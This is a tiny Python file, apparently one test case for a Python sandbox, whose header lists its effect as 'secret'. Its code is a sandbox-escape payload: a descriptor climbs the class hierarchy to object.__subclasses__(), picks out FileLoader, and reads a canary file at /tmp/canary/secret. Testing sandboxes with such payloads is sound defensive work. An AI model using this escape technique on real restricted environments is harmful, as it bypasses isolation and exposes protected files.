# source: own
# effect: secret

class Descriptor:
    def __get__(self, value, owner):
        return owner.__init_subclass__.__self__.__mro__[-1].__subclasses__()


class Quiet:
    kinds = Descriptor()


kinds = {kind.__name__: kind for kind in Quiet().kinds}
print(kinds["FileLoader"]("x", "y").get_data("/tmp/canary/secret").decode())
